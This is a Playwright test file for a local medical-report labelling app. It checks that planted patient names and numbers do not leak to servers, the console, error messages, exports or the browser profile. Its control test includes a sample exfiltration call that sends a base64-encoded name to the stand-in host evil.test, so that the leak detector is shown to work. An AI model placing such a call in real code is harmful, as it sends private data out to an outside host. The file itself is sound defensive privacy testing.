// Names and numbers planted in reports are looked for in everything that the reports could have reached: every byte that the server of the
// page and a sink were sent, the console, errors, problem texts, exports that are meant to leave, and the profile on disk
// afterwards (no vault is open, so reports rest in memory only). A page without a policy proves that the search finds what leaves.
import { readFileSync } from "node:fs";
import { unzipSync } from "fflate";
import { expect, test, type BrowserContext, type Page } from "@playwright/test";
import { openInstalled } from "../e2e/installed";
import { findInFolder, randomName, randomNumber, sentinelSearch } from "../helpers/sentinels";
import { appOrigin, openApp } from "./app-server";
import { openBrowser } from "./browser";
import { openSinks } from "./sinks";

const names = Array.from({ length: 25 }, randomName);
const numbers = Array.from({ length: 25 }, randomNumber);
const search = sentinelSearch([...names, ...numbers]);
const button = (page: Page, name: string) => page.getByRole("button", { name, exact: true });

/** 100 reports of 50 patients: each name and each number stands in texts, and each number is a patient. */
function reports(): string {
  const rows = Array.from({ length: 100 }, (_, at) => {
    const [name, number] = [names[at % 25] ?? "", numbers[at % 25] ?? ""];
    const finding = at % 2 ? "Large right pleural effusion." : "No pleural effusion. Heart size is normal.";
    return `${at % 50 < 25 ? number : `P${at % 50}`},"Patient ${name}, accession ${number}, visit ${at}. ${finding}"`;
  });
  return ["patient_id,report_text", ...rows].join("\n");
}

/** Console and errors of every page and worker of a browser. */
function listen(context: BrowserContext): readonly string[] {
  const lines: string[] = [];
  context.on("console", (message) => lines.push(message.text()));
  context.on("weberror", (error) => lines.push(String(error.error())));
  return lines;
}

const inText = (lines: readonly string[]) => search(Buffer.from(lines.join("\n")));
const inBytes = (parts: readonly Uint8Array[]) => parts.flatMap((part) => search(part));

async function save(page: Page, press: () => Promise<void>): Promise<Buffer> {
  const download = page.waitForEvent("download");
  await press();
  return readFileSync(await (await download).path());
}

/** Files that cannot be read, each with the names in it: what the page then says is for everybody's eyes. */
async function provoke(page: Page): Promise<readonly string[]> {
  const said: string[] = [];
  const bad = (name: string, text: string) => ({
    name,
    mimeType: "application/octet-stream",
    buffer: Buffer.from(text),
  });
  await page.goto(`${appOrigin}/#/export`);
  for (const label of ["Open an adapter zip", "Verify a bundle"]) {
    await page.getByLabel(label).setInputFiles(bad(`${names[0] ?? ""}.zip`, names.join(" ")));
    await expect(page.getByRole("alert").first()).toBeVisible();
    said.push(...(await page.getByRole("alert").allTextContents()));
  }
  await page.goto(`${appOrigin}/#/reports`);
  for (const start of ["%PDF-1.7 ", "PK\u0003\u0004"]) {
    await page.getByLabel("Open another file").setInputFiles(bad(`${names[5] ?? ""}.csv`, start + names.join(" ")));
    await expect(page.getByRole("alert").first()).toBeVisible({ timeout: 20_000 });
    said.push(...(await page.getByRole("alert").allTextContents()));
  }
  return said;
}

/** Import, label, promise, training, scores. */
async function work(page: Page): Promise<void> {
  await page.goto(`${appOrigin}/#/reports`);
  const file = { name: `${names[6] ?? ""}.csv`, mimeType: "text/csv", buffer: Buffer.from(reports()) };
  await page.getByLabel("Choose a file").setInputFiles(file);
  await button(page, "Label by rules: chest X-ray").click({ timeout: 60_000 });
  await button(page, "Accept for 100 reports without labels").click({ timeout: 20_000 });
  await expect(page.getByText(/^100 of 100 labelled/)).toBeVisible();
  await page.getByRole("link", { name: /^Privacy/ }).click();
  await page.getByLabel(/I confirm about/).check();
  const anyway = page.getByLabel("Train although the noise exceeds the signal");
  await expect(anyway.or(button(page, "Go to Train")).first()).toBeVisible();
  if (await anyway.isVisible()) await anyway.check();
  await button(page, "Go to Train").click();
  await button(page, "Start training").click();
  await expect(page.getByText(/Done: \d+ steps/)).toBeVisible({ timeout: 120_000 });
  await button(page, "Go to Check").click();
  await expect(page.getByRole("row", { name: /This adapter/ })).toBeVisible({ timeout: 60_000 });
}

test("50 names and numbers of reports reach no server, console, error, shared file or disk @change", async () => {
  test.setTimeout(240_000);
  const [sinks, app] = [await openSinks(), await openApp("built")];
  const browser = await openBrowser({ ports: { app: app.port, sink: sinks.httpPort }, installed: null });
  const heard = listen(browser.context);
  const page = await browser.context.newPage();
  await openInstalled(page, appOrigin);
  await work(page);

  await page.goto(`${appOrigin}/#/export`);
  await button(page, "Prepare: Adapter to share").click();
  const share = await save(page, () => page.getByRole("button", { name: /^Save / }).click());
  const files = unzipSync(share);
  expect(Object.keys(files).some((name) => name.endsWith("privacy-statement.html"))).toBe(true);
  await page.goto(`${appOrigin}/#/seal`);
  const ledger = await save(page, () => button(page, "Save ledger.jsonl").click());
  const addresses = [page.url(), await page.title()];
  const problems = await provoke(page);
  expect(problems.length).toBeGreaterThanOrEqual(4);

  await browser.end();
  expect.soft(inBytes([...app.bytes(), ...sinks.bytes()])).toEqual([]);
  expect.soft(inText(heard)).toEqual([]);
  expect.soft(inText([...problems, ...addresses])).toEqual([]);
  expect.soft(inBytes([...Object.values(files), Buffer.from(Object.keys(files).join("\n")), ledger])).toEqual([]);
  expect.soft(findInFolder(browser.profile, search)).toEqual([]);
  expect(app.bytes().length).toBeGreaterThan(0); // the installation was seen, so the page's server was
  await Promise.all([browser.remove(), sinks.close(), app.close()]);
});

test("the same search finds a planted fetch, beacon and console line of a page without a policy @change", async () => {
  const [sinks, app] = [await openSinks(), await openApp("control")];
  const browser = await openBrowser({ ports: { app: app.port, sink: sinks.httpPort }, installed: null });
  const heard = listen(browser.context);
  const page = await browser.context.newPage();
  await page.goto(appOrigin);
  await page.evaluate(
    async ([name, number, other]) => {
      await fetch(`http://evil.test/?q=${btoa(`name ${name ?? ""}`)}`);
      await fetch("/own", { method: "POST", body: `<p>${number ?? ""}</p>` });
      console.log("opened", other);
      localStorage.setItem("draft", name ?? "");
    },
    [names[0], numbers[0], names[1]],
  );
  await browser.end();
  const found = (some: ReturnType<typeof search>) => some.map(({ sentinel }) => sentinel);
  expect(found(inBytes(sinks.bytes()))).toContain(names[0]);
  expect(found(inBytes(app.bytes()))).toContain(numbers[0]);
  expect(found(inText(heard))).toContain(names[1]);
  expect(findInFolder(browser.profile, search).length).toBeGreaterThan(0);
  await Promise.all([browser.remove(), sinks.close(), app.close()]);
});
